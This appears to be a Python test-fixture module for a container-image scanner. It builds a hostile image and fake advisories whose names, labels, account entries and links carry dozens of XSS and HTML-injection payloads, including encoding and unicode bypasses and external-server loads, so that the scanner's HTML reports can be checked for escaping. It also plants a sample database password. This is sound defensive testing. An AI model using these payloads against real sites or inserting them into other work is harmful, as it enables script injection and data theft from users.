"""html_payloads.py - what an image could write to become more than text in a page, and an image that writes it everywhere"""
import json

from feeds_made import osv
from images import Dir, File, Image, Layer, dpkg_status

# {n} makes each one known by its number, {u} is a server that counts who asks it.
TEMPLATES = (
    "<script>pwned({n})</script>", "\"><script src={u}/{n}.js></script>", "'><img src=x onerror=pwned({n})>", "<svg onload=pwned({n})>",
    "<img src={u}/{n}.png>", "</title><script>pwned({n})</script>", "</style><script>pwned({n})</script>", "</script><script>pwned({n})</script>",
    "</summary></details><h1 id=payload>{n}</h1>", "<iframe src=javascript:pwned({n})></iframe>", "<object data={u}/{n}></object>",
    "<embed src={u}/{n}>", "<link rel=stylesheet href={u}/{n}.css>", "<style>@import '{u}/{n}.css'</style>", "<base href={u}/{n}/>",
    "<meta http-equiv=refresh content=0;url={u}/{n}>", "<a href=javascript:pwned({n}) id=payload>x</a>", "javascript:pwned({n})",
    "\" onmouseover=pwned({n}) x=\"", "' onfocus=pwned({n}) autofocus '", "` onclick=pwned({n}) `", "&lt;script&gt;pwned({n})&lt;/script&gt;",
    "&#60;script&#62;pwned({n})&#60;/script&#62;", "<!-- {n}", "--> {n} <b id=payload>", "<![CDATA[ {n} ]]>", "<?xml version={n}?>",
    "<math><mtext><b id=payload>{n}", "<template><b id=payload>{n}", "<noscript><b id=payload>{n}", "<textarea id=payload>{n}",
    "<plaintext>{n}", "<xmp>{n}", "<body onload=pwned({n})>", "<details open ontoggle=pwned({n})>", "<video><source onerror=pwned({n})></video>",
    "<form action={u}/{n}><input name=x id=payload autofocus onfocus=pwned({n})>", "<SCRIPT/XSS SRC={u}/{n}></SCRIPT>", "<<script>pwned({n})//<</script>",
    "<img \"\"\"><script>pwned({n})</script>\">", "<a href=\"data:text/html,<script>pwned({n})</script>\" id=payload>", "{{{{constructor.constructor('pwned({n})')()}}}}",
    "${{pwned({n})}}", "<div style=\"background:url({u}/{n})\" id=payload>", "x:expression(pwned({n}))", "<marquee onstart=pwned({n})>", "<portal src={u}/{n}>",
    "<dialog open id=payload>{n}</dialog>", "<svg><animate onbegin=pwned({n}) attributeName=x dur=1s>", "<svg><use href={u}/{n}#x></svg>",
    "<svg><image href={u}/{n}></svg>", "<svg><script>pwned({n})</script></svg>", "+ADw-script+AD4-pwned({n})+ADw-/script+AD4-", "%3Cscript%3Epwned({n})%3C/script%3E",
    "\\u003cscript\\u003epwned({n})\\u003c/script\\u003e", "<scr\x0bipt>pwned({n})</scr\x0bipt>", "\u202e<script>pwned({n})</script>\u202c", "\u2028<script>pwned({n})</script>",
    "\ufeff<b id=payload>{n}", "\uff1cscript\uff1epwned({n})", "]]></style></title></textarea></script><b id=payload>{n}", "<select><option id=payload>{n}", "</main></body></html><b id=payload>{n}",
    "=HYPERLINK({u}/{n})", "<a ping={u}/{n} href=# id=payload>", "<audio src={u}/{n} autoplay onerror=pwned({n})>")

UNSEEN = "\x0b\u202e"  # a package is not called so, says its cataloger
BARRED = ":\x0b"  # not in a name of an account, nor + or - before it


def shown(text):
    """As a report shows it: what nobody sees, or what turns the direction, as its number."""
    return "".join(f"\\x{ord(c):02x}" if ord(c) < 0x20 else f"\\u{ord(c):04x}" if c in "\u202e\u202c\u2028\ufeff" else c for c in text)


class Hostile:
    """Makes payloads, and remembers what of them is to be seen. Its twin makes words instead, so that the two pages must have the same elements."""

    def __init__(self, url, twin=False):
        self.url, self.twin, self.number, self.seen = url, twin, 0, []

    def text(self, without="", cut=None, more=""):
        """The next payload; WITHOUT: characters that the place cannot have; CUT: what stands behind that is not shown."""
        while True:
            self.number += 1
            text = TEMPLATES[self.number % len(TEMPLATES)].format(n=self.number, u=self.url) + more
            if not any(character in text for character in without) and (without != BARRED or text[0] not in "+-"):
                break
        if self.twin:
            return f"word{self.number}{more}"
        self.seen.append(shown(text.split(cut)[0] if cut else text))
        return text

    def packages(self, count):
        files = []
        for number in range(count):
            package = {"name": self.text(UNSEEN), "version": self.text(UNSEEN), "license": self.text(UNSEEN)}
            files.append(File(f"srv/{number}/node_modules/x{number}/package.json", json.dumps(package)))
        return files

    def image(self):
        labels = {self.text(cut="="): self.text() for _ in range(70)}
        accounts = "".join(f"{self.text(BARRED)}:x:{number}:{number}::/:{self.text(BARRED)}\n" for number in range(60))
        config = {"User": self.text(), "WorkingDir": self.text(), "Entrypoint": [self.text() for _ in range(5)], "Cmd": [self.text() for _ in range(5)],
                  "Env": [self.text(cut="=") for _ in range(70)], "Labels": labels, "ExposedPorts": {self.text(): {}}, "Volumes": {self.text(): {}}}
        layers = [Layer([Dir("etc"), File("etc/os-release", f'ID=debian\nVERSION_ID="12"\nPRETTY_NAME="{self.text(chr(34) + chr(36) + chr(96) + chr(92))}"\n'),
                         dpkg_status(("flawed", "1")), File("etc/passwd", accounts)], created_by=self.text()),
                  Layer(self.packages(70), created_by=self.text())]
        # Files with a secret, in folders whose names are payloads.
        secret = "DATABASE_URL=%s://app:%s@db.internal/shop\n" % ("postgres", "Vq7" + "tRz2mKx" + "9pLw")
        layers.append(Layer([File(f"srv/{self.text('/' + chr(0))}/settings.env", secret) for _ in range(5)], created_by=self.text()))
        return Image(layers, config)

    def advisories(self, folder, count):
        """Flaws of the package "flawed", whose titles and links are payloads."""
        for number in range(count):
            osv(folder, f"CVE-2023-{10000 + number}", "Debian:12", "flawed", "2", summary=self.text(), published="2023-01-02T03:04:05Z",
                references=[{"type": "ADVISORY", "url": f"javascript:pwned({number})" if number % 2 else f"https://x.example/\"onmouseover=pwned({number})"}])
